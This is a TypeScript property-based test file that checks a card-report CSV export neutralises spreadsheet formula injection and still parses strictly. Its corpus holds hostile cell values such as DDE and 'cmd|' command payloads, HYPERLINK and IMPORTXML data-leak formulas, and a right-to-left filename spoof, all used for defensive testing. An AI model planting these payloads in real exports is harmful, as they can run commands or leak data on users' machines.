import { cardExport, type CardReportRow } from '@paydeck/core/cards'
import { decimalText, zero } from '@paydeck/core/money'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, it } from 'vitest'

const now = Date.UTC(2026, 2, 3, 12)

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\u0000',
  '＝',
  '＋',
  '－',
  '＠',
  '"',
  ',',
  "'",
  '#',
  ' ',
  '',
] as const
const rests = [
  '1+1',
  "cmd|'/C calc'!A0",
  '@SUM(A1:A9)*cmd',
  'HYPERLINK("https://example.test/?"&A1,"Refund")',
  'IMPORTXML("https://example.test","//a")',
  'DDE("cmd";"/C calc";"x")',
  '12.50',
  '1e5',
  'Glasshouse "Coffee", Ltd.',
  'two\r\nlines',
  'two\nlines',
  'a\rb',
  'Café ＆ Söhne 咖啡 ☕',
  '',
  '#REF!',
  ';=1+1',
  '"";=1+1',
  '\u202Egnp.exe',
]

/** Cell texts: each possible start of a formula is combined with each possibly harmful rest, which makes 324 texts. */
const corpus = starts.flatMap((start) => rests.map((rest) => `${start}${rest}`))

const rowOf = (description: string, index: number): CardReportRow => ({
  date: Date.UTC(2025, index % 12, 1 + (index % 28), 12),
  description,
  type: index % 5 === 0 ? 'FE' : 'PM',
  amount: decimalText(`${index % 2 === 0 ? '-' : ''}${index}.25`) ?? zero,
})

const fileOf = (rows: ReadonlyArray<CardReportRow>): string => {
  const made = cardExport({ provider: 'galileo', lastFourDigits: '4821' }, rows, 2025, now)
  if (made.kind !== 'file') throw new Error('There is no file')
  return made.file.text
}

/** Parses a file strictly by RFC 4180: each line must have as many cells as the first. */
const readBy = (text: string): ReadonlyArray<ReadonlyArray<string>> =>
  parse(Buffer.from(text, 'utf8'), { bom: true, record_delimiter: '\r\n', relax_column_count: false })

/** Returns the expected cell, with an apostrophe in front of a text that could start a formula (CARD-184). */
const guarded = (text: string): string => {
  const isNumber = /^-\d+(\.\d+)?$/.test(text)
  return /^[=+\-@＝＋－＠\u0000-\u001F\u007F-\u009F]/.test(text) && !isNumber ? `'${text}` : text
}

const expectRead = (rows: ReadonlyArray<CardReportRow>): void => {
  const read = readBy(fileOf(rows))
  expect(read[0]).toEqual(['Date (UTC)', 'Description', 'Type', 'Amount'])
  expect(read.slice(1, rows.length + 1)).toEqual(
    rows.map(({ date, description, type, amount }) => [
      new Date(date).toISOString().slice(0, 10),
      guarded(description.replaceAll('#', '_')),
      type,
      amount,
    ]),
  )
  // The last lines contain the totals of the twelve months and of the year.
  expect(read).toHaveLength(1 + rows.length + 12 + 1)
}

it('X10 CARD-181 CARD-183 CARD-184 the parser csv-parse reads every cell correctly, even in a report with hostile texts', () => {
  expect(corpus.length).toBeGreaterThanOrEqual(300)
  expectRead(corpus.map(rowOf))
})

it('X10 CARD-184 the parser csv-parse reads every cell correctly in a report with arbitrary texts', () => {
  const texts = fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...corpus)), {
    minLength: 1,
    maxLength: 3,
  })
  // A lone surrogate has no encoding in UTF-8.
  fc.assert(
    fc.property(texts, (descriptions) => expectRead(descriptions.map((text) => text.toWellFormed()).map(rowOf))),
  )
})
